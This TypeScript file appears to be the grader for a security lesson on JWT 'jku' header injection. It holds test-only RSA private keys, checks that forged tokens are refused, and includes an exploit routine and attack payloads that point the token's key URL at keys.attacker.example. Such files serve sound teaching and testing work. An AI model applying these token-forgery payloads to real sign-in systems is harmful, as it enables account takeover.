import assert from 'node:assert/strict'
import { createPrivateKey, createPublicKey } from 'node:crypto'
import { SignJWT } from '#proof/jose'
import { createPool } from '#proof/sql'
import type { Breach, Vary } from '#proof/vary'
import type { Directory, FetchKeys, Tenant } from './typescript/sign-in.ts'

type Code = typeof import('./typescript/sign-in.ts')
type Pair = ReturnType<typeof readKeys>

export const adapt = {
  python: (code: any) => ({ ...code, signIn: (db: unknown, { findTenantByIssuer }: Directory, fetchKeys: FetchKeys, token: string) => code.signIn(db, findTenantByIssuer, fetchKeys, token) }),
}

/** Made for this proof: making RSA keys takes long, and the library takes none below 2048 bits. Who has which is drawn. */
function readKeys(privateKeyText: string) {
  const privateKey = createPrivateKey({ key: Buffer.from(privateKeyText, 'base64'), format: 'der', type: 'pkcs8' })
  return { privateKey, publicKey: createPublicKey(privateKey) }
}

const pairs = [
  `
  MIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcwggSjAgEAAoIBAQCkO9FvfhiBbA/GZgzpWQnxaHHN4DLD3j7FM4FlYC4ihi1A7WQHqPtoHt1k4782BqlDtvI53G+D2xlpMpadrT86EI6j
  /UQMPOD5c0wpODuPAf1Eq5MIA/8/Y055dbiJj29OU2IJT9BF0Uj7Xe/K11pK51k4VtMDujiAQd6XBp9dpkw+UGz8MwvE5ZcmPrMeYdDhK5UtGS1mM0LtWzy7oSRXxuq0rVx0mMl1FYD7
  a0LlDDI0Tc3sSksA+xfIJ/UmE5knNPxQ/1V5cs57iD69ttA4QmMNGK5yYmUSh4sMCz1vcZKbGU6HzTXW8dftmReMkU56zSY3NzctPOHcSIbc6UM5AgMBAAECggEAShLs0IOoG9+Ycdyf
  YDQXpvl7sua3Ht7DowArEYVC6bFpAcrQfh/6XKjnJFUQbhatC2ydbfl9lpQgrvDxO+bjCJZlL5PQuFBRDFGzfTfurP6xs+JK66eZ3YY149Rzyh+WjVZQdnC4OHU/nJhuyic9g2E7PYzz
  mc/JIhgThDypbnwVE0g2EUrnS6Z9PFIeBQyDzN/myfm3KhifKy7XiT+vHy/BcMTj/JkEGw8lVWhEZx7NyCxtJfIUANLVoEaAUn8yRNIwg3rZfPe61CT7dv1YtidiPGwDqyrAOfprBBST
  vqWpmTfnytVXqzwsgBRSi3QsYnwrpUIHEUTVj7zyK22SvQKBgQDQkplzfeu/5BKIFov/QawBoecSMAB/6+dVGG1MbuwbmyysSbQVHXuUVhcL1rdZZsHyWy6Qvy3zT9KXa01g0gY1CjDK
  hjL/+TgTrPOiDFRaVsrIFFEWdH7LqgAca/fI1cDz3NUTLrAIMQLmucQtbsYfBdlIJslNLKZRfaLaRqvsgwKBgQDJlCn57ASNaJT4vpaLO87f8QVyoThL5CYbDzCD9n0Q2lXn6SpGKICi
  X9wqrKKTOt14+VRD620qBEItJEFifrgENsB5WWsk/oRdQXlpkcHwIUubHK89PDvApuxjqk7IS31Lg/VttA7o7fuN7F2XZoc6CNHUeR8/IkUua+kvSAt8kwKBgA0SEtG9A2gcF9k1aIKP
  kALuLXfjUDS0COQ5Sqguj1dPiyYk3EcyeMsb9gfE5eqRWPgiJLHneS61QuJAVDIMF119jP80F8AY0x3QidgO475hkAWn2EkK9eM3fRhK39VTJ+tgXG3+UAPDZoYlABlExt+s0ygFXjoa
  4TVcJTd+lEmXAoGBALJKuG3zUXt5mvoAKMtx1OLCHZ1r9404eHPKlZDCvY/gbcc3tkpjnJMB0ox0MT+j+yv664s/ekiFh7rBrItfpYcknk02x8vqykxpkufLIgwwhtzlHCI/WmJlwgPN
  KO2Dx4i5aKTlc6KWi77V51n4N3cfQeh6USbYOvR6Qb+uK2q9AoGAPlxx7Y6s/lS8khLOglIsuhGMdVKbXhQ2yQ3e24m7IqISmC1JYtcYDSQAuUoUUQlGsh3DPhRHQupNbJRUetlJrDgU
  meUG/jlYvpFVEk48Po1uMRUIjwPT4jmip+xoDhlGgp2ZSQEf4KfczY69v7DaSGEjxiaRuby1UM7WX1m3hOs=
`,
  `
  MIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcwggSjAgEAAoIBAQDvpgHhWcBXEmIqjb9zFHdFxG9jko9AndoiC3im4hwbdJ28Ws2e/NSKuE5ytrZ8llXdLgpcHTEn45YZI/F2S900Nqma
  pPMYPWSMJ6IFtEHuSMVwqaSaMTqcxFLG5LwPrdljJRzgyaZf9E2WbQeqLPvoJA/i/lpYhBR0HHeglzyaTlHCiYg+x9viEJD324cFgGXnZrO0zqMReUB8zL5z5vt9EEGoVYUD1nUNGvRP
  mKdIngihO8NNl7dwd4sJeieZMHn5pwwI7+3WNCdrVJ6G74xHJhD9hPc9M0LKRHgz7gu6sWEFn6GhICedeDQHDwEJJu0kno1wpqhX638TUjDwwNtHAgMBAAECggEAAdhEzm/K78Cn+czi
  iue+7U4QT3Nq3+P3MGjnMl2uOrXgmvkV+SHYHwNBM1fdusLLgWrf0Iq2/KgfWS0yKCd4WfULxDF935NlaUDK2gFjuopb3rynlDpJybgnLPnIytQbRsyb1s0mlzmBuWU4eGJlRAm3B5fO
  qTzHDYfEkftoD4YEAdXrIDnljoj3V3+N1jlpsmXPFwZVZLkUsk9od3toE+oaCJ8kbSIfSVwaco08yNU2OQG6N/pemSW8P1TzfodEu3ZOav6XtKSNxx+Mgk0pjp6jOwdLELbDb1MOk5+7
  0oHAVW6FKdQfuFg+4nIGZI3z2NfQVCLfv/0uwNYWiKbXZQKBgQD5mpu1H3slBs3JNMMyqhFCfqpF9Zu7HI46K6NEU5aSe4+jjH9HQ3OJMiskb5jVA+uUVE/mKYIECXZpT0kJHKnoNnRI
  Bwxy8q7vYCAo7+HU+m/yAg7nsXg7d2pgRyw6jyjcIFIaDFAHE95hyajm1k4G4yzQTdKI4yPG9zTgYjKAawKBgQD1yhd0KKz7pff/FyDJLeRlN8QL5YyCcP+d11MzJC8kl92BElwt4ZlB
  39Ax/BFpMauTZY6irpG6wGWoKbn15vQK7Abu/I4hNRXgrOkJ1iReWxMOqP3AYfRLBXj4X0eNjzTfoiRhF9ay8qgqsKHOzfJSMF0ZxJjPmt8xH35M4heXlQKBgE+hT4OdI4BQh15lgtCr
  CQ6ZsmDXVnN/TLCqM1AdCrB40v5uWDy3/CgM5U6ee7eZpJKRw1u+akg3bJt0O+y4RExc8wP3m7UgT0b298uXnAiCTSx8E50/NQhjtIA6tJWKDpMLjKXav71CTXQNDeF3BTWVTDq4WS5q
  qINVYn0jVtE5AoGASn2C+itRsbqtHFxQDWihLaPnAIwDN40ziwy1JGy09Owpr3J3CViz7+j62gtA45awHy3KOreZZvXkWUC8ITBridvahhd4o8vI45zDy71grFAByJGixelp9kqkTPHj
  Z52dMqGbUOm+oeE04itB/sEfzZTmwmZ4wYJ4XhTjXD2xVLkCgYEA2X15eOrXPMlLZl6JfbddJrO9hLmpTLxjvtEApcJ6ZIF/xhdx0vop8UshKhBhVlqi+kPUkuzBPPQ+5GhmZZ+lnrw/
  /IoKC+SIiuxGuv8ThoojtqGvZIl3FN1SmGfQX3vYNT/8dj6l8Y31HM51bUNEHNa4dD4EHX9bYLCoVsm/Ak8=
`,
].map(readKeys)

/** The code keeps the keys of an address, so each step has addresses of its own. `known` is the company in the texts of the lesson. */
function start({ signIn }: Code, vary: Vary, known?: string) {
  const [own, evil] = vary.shuffle(pairs) as [Pair, Pair]
  const [id, name, kid] = [vary.number(1, 500), vary.name(), `${vary.word()}-${vary.number(2020, 2026)}`]
  const issuer = `https://login.example.net/${known ?? `${vary.word()}-${vary.text(6)}`}`
  // Companies have moved their keys before: every address that a free account could have is one that another company has registered.
  const address = () => vary.pick([`${issuer}/keys/${vary.text(6)}`, `${issuer}-${vary.number(2, 9)}/keys`, `${issuer}.${vary.word()}/${vary.text(6)}`, `${issuer}${vary.number(10, 99)}/keys?at=${vary.word()}`])
  const tenant: Tenant = { id, issuer, keysUrl: known ? `${issuer}/keys` : address(), keyIds: [kid, `${vary.word()}-old`] }
  const email = `${name.toLowerCase()}@${vary.word()}.example`
  const db = createPool(`
    CREATE TABLE users (id INTEGER, tenant_id INTEGER, email TEXT, name TEXT);
    INSERT INTO users VALUES (1, ${id}, '${email}', '${name}'), (2, ${id + 1}, 'bo@other.example', 'Bo')`)
  const publish = ({ publicKey }: Pair) => ({ keys: [{ ...publicKey.export({ format: 'jwk' }), kid }] })
  const served = new Map([[tenant.keysUrl, publish(own)]])
  const fetchKeys: FetchKeys = async (url) => {
    const keys = served.get(url)
    // What Python calls an answer such as 404.
    if (!keys) throw Object.assign(new Error(`404 ${url}`), { name: 'OSError' })
    return keys
  }
  // Another company at the same provider, whose key is the other one.
  const company = `https://login.example.net/${vary.word()}-${vary.text(7)}`
  const second: Tenant = { id: id + 1, issuer: company, keysUrl: `${company}/keys/${vary.text(6)}`, keyIds: [kid] }
  served.set(second.keysUrl, publish(evil))
  const directory = { findTenantByIssuer: async (wanted: string) => [tenant, second].find((one) => one.issuer === wanted) }
  const make = (pair: Pair, header: object = {}, claims: object = {}) =>
    new SignJWT({ iss: issuer, aud: 'planner', email: vary.pick([email, email.toUpperCase()]), exp: Math.floor(Date.now() / 1000) + vary.number(30, 900), ...claims })
      .setProtectedHeader({ alg: 'RS256', kid, ...header })
      .sign(pair.privateKey)
  // The attacker names the own key as they like: as the company's keys, or as none of them.
  const evilIds = [...tenant.keyIds, `${vary.word()}-new`]
  const serve = (url: string) => served.set(url, { keys: evilIds.flatMap((id) => publish(evil).keys.map((key) => ({ ...key, kid: id }))) })
  return { own, evil, evilIds, name, issuer, tenant, second, address, make, serve, enter: async (token: string) => signIn(db, directory, fetchKeys, token) }
}

export async function works(code: Code, vary: Vary) {
  const { own, evil, name, issuer, tenant, second, make, enter } = start(code, vary)
  const accepted: [string, string][] = [
    [await make(own), 'Somebody with a token of the company'],
    [await make(own, { jku: tenant.keysUrl }), 'Somebody whose token names the address of keys that the company has registered'],
  ]
  const refused: [string, string][] = [
    [vary.word(), 'A text that is no token'],
    [await make(evil), 'A token that was signed with another key'],
    [await make(evil, { jku: tenant.keysUrl }), 'A token that was signed with another key and names the right address'],
    [await make(own, { kid: vary.text(8) }), 'A token of an unknown key'],
    [await make(own, {}, { aud: vary.word() }), 'A token for another service'],
    [await make(own, {}, { iss: `${issuer}-x` }), 'A token of an issuer that nobody has registered'],
    [await make(own, {}, { exp: Math.floor(Date.now() / 1000) - vary.number(100, 9000) }), 'A token that has expired'],
    [await make(own, {}, { email: 'bo@other.example' }), 'A token that names somebody of another company'],
  ]
  for (const [token, what] of vary.shuffle([...accepted, ...accepted, ...refused]))
    if (refused.some(([one]) => one === token)) await assert.rejects(enter(token), code.Refused, `${what} should be refused with Refused.`)
    else {
      assert.equal((await enter(token)).name, name, `${what} should be signed in.`)
      const bo = await enter(await make(evil, {}, { iss: second.issuer, email: 'bo@other.example' }))
      assert.equal(bo.name, 'Bo', 'Somebody of another company at the same provider should be signed in, with the key of that company.')
    }
}

/** The attacker has a free account at the provider of the company, or a server, and publishes a key there, under the names of the company's own and another. */
export async function exploit(code: Code, vary: Vary, payloads?: readonly string[]): Promise<Breach | false> {
  const { evil, evilIds, name, issuer, tenant, second, address, make, serve, enter } = start(code, vary, payloads && 'acme')
  const elsewhere = [`${issuer}/../${vary.word()}/keys`, `https://login.example.net/${vary.word()}/keys`, `https://${vary.word()}.example/keys`, `${tenant.keysUrl}?${vary.word()}`, `${tenant.keysUrl}#${vary.word()}`]
  for (const jku of payloads ?? vary.shuffle([address(), address(), address(), second.keysUrl, ...elsewhere])) {
    if (jku === tenant.keysUrl) continue
    serve(jku)
    if (jku === second.keysUrl) await enter(await make(evil, {}, { iss: second.issuer, email: 'bo@other.example' })).catch(() => {})
    for (const kid of vary.shuffle(evilIds)) {
      const user = await enter(await make(evil, { kid, jku })).catch(() => undefined)
      if (user?.name !== name) continue
      return { sent: `a token of ${name}, signed with a key of the attacker, whose header is {"alg":"RS256","kid":"${kid}","jku":"${jku}"}`, got: `signed in as ${user.name} of the company ${issuer}`, damage: 'The attacker wrote the token, and the key that checks it: the keys came from the address that the token itself names.' }
    }
  }
  return false
}

// Attack mode: the learner writes the input.
export async function attack(code: Code, { header }: { header: string }, vary: Vary) {
  const { evil, name, make, serve, enter } = start(code, vary, 'acme')
  serve('https://keys.attacker.example/jwks')
  try {
    const user = await enter(await make(evil, JSON.parse(header)))
    return { isDone: user.name === name, shown: `Signed in: ${JSON.stringify(user)}` }
  } catch (error) {
    return { isDone: false, shown: String(error) }
  }
}

export const attacks = [
  { input: { header: '{"jku": "https://keys.attacker.example/jwks"}' }, isDone: true },
  { input: { header: '{"typ": "JWT"}' }, isDone: false },
  { input: { header: '{"jku": "https://keys.attacker.example/other"}' }, isDone: false },
]
